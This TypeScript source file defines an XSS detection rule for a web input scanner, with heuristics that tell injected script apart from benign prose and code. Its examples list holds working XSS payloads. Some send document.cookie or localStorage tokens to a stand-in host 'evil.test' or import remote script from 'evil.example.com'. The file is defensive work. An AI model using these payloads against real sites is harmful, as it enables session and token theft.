import {
  endOf,
  isAdjacent,
  isQuote,
  kindAt,
  type ScriptTokens,
  scriptKind,
  startOf,
  wordAt,
} from '../../grammars/script/script.ts';
import { mark, type ScriptEvidence } from '../../grammars/script/script-evidence.ts';
import { mayHoldScript } from '../../grammars/script/script-hint.ts';
import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
import { isScriptInProse } from '../../grammars/script/script-prose.ts';
import { commonFunctions, scriptWords } from '../../knowledge/script-words.ts';
import { confidence } from '../../placement/confidence.ts';
import { isLineInHead, isMessageMember } from '../../placement/field-role.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import { wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** Script without any markup, for values that land inside a script of the page. */
export const scriptCall: ValueRule = {
  id: 'xss.script-call',
  score: confidence.strong,
  message: 'is script that opens a dialog, runs a string or gives data of the page away',
  trigger: { anchor: mayHoldScript, literals: [scriptWords] },
  judge: judgeScriptCall,
  examples: [
    ...['import("https://evil.example.com/a.js")', 'await import(`https://evil.example.com`)'],
    ...['0&&Alert(1)||alert(1)', 'alert(document.domain)', "document?.write?.('<h1>a</h1>')"],
    ...['x=1;confirm`1`', "x';a=alert(1)+does+not+show//"],
    ...["x';/https://x?q=alert(1)+does+not+show:1//", "x';a=1?b=alert(1)+does+not+show:1//"],
    ...["eval(atob('YWxlcnQoMSk='))", "[].constructor.constructor('alert(1)')()"],
    "location='//evil.test/?'+document.cookie",
    { body: { 'query.name': "top.location='//evil.test'" } },
    ...['onerror=alert;throw 1', 'with(document)forms[0].submit()', 'setTimeout("go()",5)'],
    ...["Reflect.get(window,'alert')(1)", 'Array.prototype.sort.call`${alert}1337`'],
    ...['Function`$${`${alert}(1)`}```', '(prompt())', '(async x=>alert(x))(1)'],
    '(async()=>alert(await 1))()',
    ...['(function(x){alert(x)})(1)', "fetch('//evil.test/'+localStorage.token)"],
  ],
  lookalikes: [
    'The `alert()` function shows a dialog, `confirm` asks a question (yes or no).',
    'Robustly `.call.bind()` a function',
    'Please confirm (or cancel) by 5; see prompt(s) below.',
    'Use `document.cookie` to read cookies; see the function(s) in chapter 3.',
    ...["const response = await fetch('https://api.example.org/items');", 'print("Hello, world!")'],
    ...['options?.onChange?.(event?.target?.value)', 'setTimeout(() => setCount(count + 1), 1000)'],
    ...['alert(1) meaning', "const { h } = await import('https://cdn.example.com/h.js');"],
    ...['Use import("https://cdn.example.com/h.js") in place of a tag', "import('./page.js')"],
    ...['withStyles(prompt)(Component)', 'new Map(alerts.map((alert) => [alert.id, alert]))'],
    ...['const Button = styled.button`color: ${(p) => p.color};`', '(prompt)'],
    ...['alert(1) does not show - why?', "alert('here') left in the code", 'Alert(3) - disk full'],
    ...['<svg role="img"><title>Alert (3)</title></svg>', 'Alert(1): the backup failed'],
    'https://example.com/search?q=alert(1)+does+not+show&page=2',
    '?page=2&q=alert(1)+does+not+show',
    '{"u":"https://www.example.com/search?q=alert(1)%20does%20not%20show&utm_term=x","t":"click"}',
    ...["if (confirm('Delete this item?')) { remove(item) }", 'name = input(prompt("Name? "))'],
    ...['el.onclick = function() { alert(this.id) }', 'const show = (x) => alert(x); (show)(1)'],
    ...['if (confirm("Sure?")) (run())', 'useEffect(() => { alert(x) })(y)'],
    ...['alert (await the reply)', 'the prompt(function) and confirm(void)'],
    ...['Never use `eval(name)`; parse the text.', '5;confirm(email)'],
    { body: { onclick: "location.href='https://www.example.com/shop'" } },
    { body: { 'query.q': "location.href='https://www.example.com'" } },
    { body: { message: "(() => { alert('Hello World'); })();" } },
  ],
};

function judgeScriptCall(subject: Subject): Match | undefined {
  if ((subject.classes & callClasses) === 0) return undefined;
  const pieces = subject.tokens(scriptPieces);
  const { tokens } = pieces;
  if (!pieces.isComplete) subject.incomplete('tokens');
  const evidence = strongestScript(pieces, 0, subject.text.length);
  if (evidence.strength < 2) return undefined;
  if (evidence.strength === 2 && commonFunctions.has(wordAt(tokens, evidence.first)))
    return undefined;
  const start = startOf(tokens, evidence.first);
  const isShown =
    isAddress(subject.text, start) ||
    listed.test(subject.text) ||
    isSearch(subject, start, endOf(tokens, evidence.last - 1)) ||
    isCapitalised(tokens, evidence);
  return matchOf(tokens, evidence, isShown ? confidence.hint : scoreOf(subject, evidence));
}

/** `5;confirm(email)`: where the page has no such name, script ends with an error before it calls. */
const listed =
  /^\d{1,12}[;,]\s?(?:alert|confirm|prompt)\((?!(?:document|location|origin|name|title|status|closed|event|screen|history|navigator|length|opener|external|performance|crypto|caches|navigation|self|window|frames|parent|cookie)\))[a-z]{4,20}\)[;,.]?$/;

/** `https://example.com/?q=alert(1)`: to a script that is a label and a comment, up to a quote. */
function isAddress(text: string, start: number): boolean {
  return start < addressMax && address.test(text.slice(0, start));
}

/**
 * `?q=alert(1)+does+not+show`: the words of a search behind the call, in a parameter. Where anything
 * else stands in front, the sum is an expression, and the call runs before an unknown name ends it.
 */
function isSearch({ text, decoded }: Subject, start: number, end: number): boolean {
  const isParameter =
    decoded.at(-1)?.startsWith('form:') === true ||
    parameters.test(text.slice(0, start)) ||
    isInQuery(text, start);
  return isParameter && searchWords.test(text.slice(end, end + 80));
}

/**
 * In the query of an address in quotes, as JSON has them: where the quote closes a literal of script,
 * no name may follow it; and an address without any quote is a label and a comment.
 */
function isInQuery(text: string, start: number): boolean {
  const bound = Math.max(0, start - addressMax);
  let from = start;
  while (from > bound && !endsAddress.test(text.charAt(from - 1))) from--;
  const isOpened = from === 0 || opensAddress.test(text.charAt(from - 1));
  return isOpened && query.test(text.slice(from, start));
}

const endsAddress = /[\s'"`<>\u2028\u2029]/;
const opensAddress = /['"]/;
const query = /^https?:\/\/[\w.-]{1,100}(?::\d{1,5})?\/.{0,4000}[?&][\w.-]{1,40}=$/i;
const parameters = /^\?(?:[\w.-]{1,40}=[\w.%+-]{0,200}&){0,20}[\w.-]{1,40}=$/;
const searchWords = /^(?:(?:\+|%20)[A-Za-z]{2,20}){2,8}(?:$|[-+&#.?%])/;
const addressMax = 4_000;
const address = /^https?:\/\/[^\s'"`<>\u2028\u2029]*$/i;

/** Some character that a call or an assignment needs. */
const callClasses = charClass.paren | charClass.backtick | charClass.equals;

function scoreOf(subject: Subject, evidence: ScriptEvidence): number {
  const { tokens } = subject.tokens(scriptPieces);
  const prose = isScriptInProse(subject);
  if (evidence.strength >= 3 && isTalkedAbout(tokens, evidence)) return confidence.hint;
  if (evidence.strength === 4) return prose ? confidence.strong : confidence.certain;
  if (evidence.strength === 3) return prose ? confidence.hint : confidence.strong;
  if (evidence.strength === 2 && isLoneAlert(tokens, evidence)) return confidence.likely;
  if (evidence.strength === 2 && isBracketed(tokens, evidence)) return confidence.likely;
  if (evidence.strength === 2 && !prose && isCalledAtOnce(tokens, evidence)) {
    // What users write for others stands in no expression of a script.
    return isMessageMember(subject.member) ? confidence.hint : confidence.likely;
  }
  if (prose) return confidence.trace;
  return isWholeText(tokens, evidence) ? scoreOfWhole(subject) : confidence.trace;
}

function scoreOfWhole({ member, text }: Subject): number {
  return isLineInHead(member) && leaving.test(text) ? confidence.likely : confidence.hint;
}

/** `location='//evil.test'` in a parameter that takes no text. */
const leaving =
  /^\s{0,8}(?:\w{1,12}\s?\.\s?){0,3}location\s?(?:\.\s?href\s?)?=\s?['"`](?:https?:)?\/\//;

/** The call is named among words: `alert(1) meaning`, or a code span of Markdown in a sentence. */
function isTalkedAbout(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
  const isSpan =
    kindAt(tokens, first - 1) === mark.backtick && kindAt(tokens, last) === mark.backtick;
  if (isSpan) return isPlainWord(tokens, first - 2) || isPlainWord(tokens, last + 1);
  // `alert(1) does not show`: two names side by side are an error, so that nothing is run.
  const isPair = isPlainWord(tokens, last) && kindAt(tokens, last + 1) === scriptKind.word;
  if (isPair && !isAdjacent(tokens, last + 1) && !isCut(tokens, last)) return true;
  const words = tokens.count - (last - first);
  if (words < 1 || words > queryWordsMax || tokens.count <= last) return false;
  for (let i = 0; i < tokens.count; i++) {
    if (i === first) i = last;
    if (i < tokens.count && !isPlainWord(tokens, i)) return false;
  }
  return true;
}

/** A line ends within the words, or what they are part of begins before the call. */
function isCut(tokens: ScriptTokens, last: number): boolean {
  const between = tokens.text.slice(endOf(tokens, last - 1), endOf(tokens, last + 1));
  return lineBreak.test(between);
}

const lineBreak = /[\n\r\u2028\u2029]/;

/** `Alert(3) - disk full`: script has no such name, since its letters have case (ECMA-262, 12.7). */
function isCapitalised(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
  const start = startOf(tokens, first);
  const beside = tokens.text.slice(0, start) + tokens.text.slice(endOf(tokens, last - 1));
  return (
    !signs.test(beside) &&
    dialogs.has(wordAt(tokens, first)) &&
    capitalised.test(tokens.text.slice(start, start + 2))
  );
}

const capitalised = /^[A-Z][a-z]/;
/** What makes a call, a template or an assignment beside the dialog. */
const signs = /[(`=]/;

/** Longer search queries are prose by the count of their words. */
const queryWordsMax = 8;

/** A word, with white space on the side of the call, that is no part of the script grammar. */
function isPlainWord(tokens: ScriptTokens, i: number): boolean {
  if (kindAt(tokens, i) !== scriptKind.word || isAdjacent(tokens, i)) return false;
  const word = wordAt(tokens, i);
  return !operators.has(word) && !word.startsWith('on') && !word.startsWith('auto');
}

/** Words between which and a call no operator is missing. */
const operators: ReadonlySet<string> = wordSet(
  'await delete else in instanceof new return throw typeof void yield',
);

/** `window.alert("Hi there!");`, and nothing else: nobody writes that into a form but to try it. */
function isLoneAlert(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
  if (wordAt(tokens, first) !== 'alert' || tokens.count - last > 1) return false;
  const isBare = first === 0 || (first === 2 && wordAt(tokens, 0) === 'window');
  return isBare && isQuote(kindAt(tokens, first + 2));
}

/** `(async x=>alert(x))(1)`, `(function(x){alert(x)})(1)`: a function with nothing else in it. */
function isCalledAtOnce(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
  if (first > functionTokensMax || !dialogs.has(wordAt(tokens, first))) return false;
  let at = last;
  while (ends.has(kindAt(tokens, at))) at++;
  if (kindAt(tokens, at) !== mark.close || kindAt(tokens, at + 1) !== mark.open) return false;
  for (let open = 0; open < first; open++) if (opensFunction(tokens, open, first)) return true;
  return false;
}

/** A bracket that calls nothing, and a function in it: not `useEffect(() => …)`. */
function opensFunction(tokens: ScriptTokens, open: number, end: number): boolean {
  if (kindAt(tokens, open) !== mark.open || isCallee(tokens, open - 1)) return false;
  let at = open + 1;
  if (wordAt(tokens, at) === 'async') at++;
  if (wordAt(tokens, at) === 'function') return true;
  if (kindAt(tokens, at) === scriptKind.word) at++;
  else if (kindAt(tokens, at) !== mark.open) return false;
  else while (at < end && kindAt(tokens, at) !== mark.equals) at++;
  return at < end && kindAt(tokens, at + 1) === greater;
}

function isCallee(tokens: ScriptTokens, i: number): boolean {
  const kind = kindAt(tokens, i);
  if (kind === scriptKind.word) return !operators.has(wordAt(tokens, i));
  return kind === mark.close || kind === mark.closeBracket;
}

const greater = 62;

/** `;` and `}` */
const ends: ReadonlySet<number> = new Set([59, 125]);

/** `(async function name(x) {` */
const functionTokensMax = 10;

/** `(prompt())`, and nothing else. */
function isBracketed(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
  if (first !== 1 || tokens.count !== last + 1 || kindAt(tokens, 0) !== mark.open) return false;
  return dialogs.has(wordAt(tokens, first)) && kindAt(tokens, last) === mark.close;
}

const dialogs: ReadonlySet<string> = new Set(['alert', 'confirm', 'prompt']);

/** The piece is all that the text holds, but for punctuation. */
function isWholeText(tokens: ScriptTokens, evidence: ScriptEvidence): boolean {
  for (let i = 0; i < evidence.first; i++) {
    if (i > 8 || kindAt(tokens, i) <= 32) return false;
  }
  return tokens.count - evidence.last <= 8;
}

/** Offsets of a piece of script. */
export function matchOf(tokens: ScriptTokens, evidence: ScriptEvidence, score: number): Match {
  const start = startOf(tokens, evidence.first);
  return { start, end: Math.max(start, endOf(tokens, evidence.last - 1)), score };
}
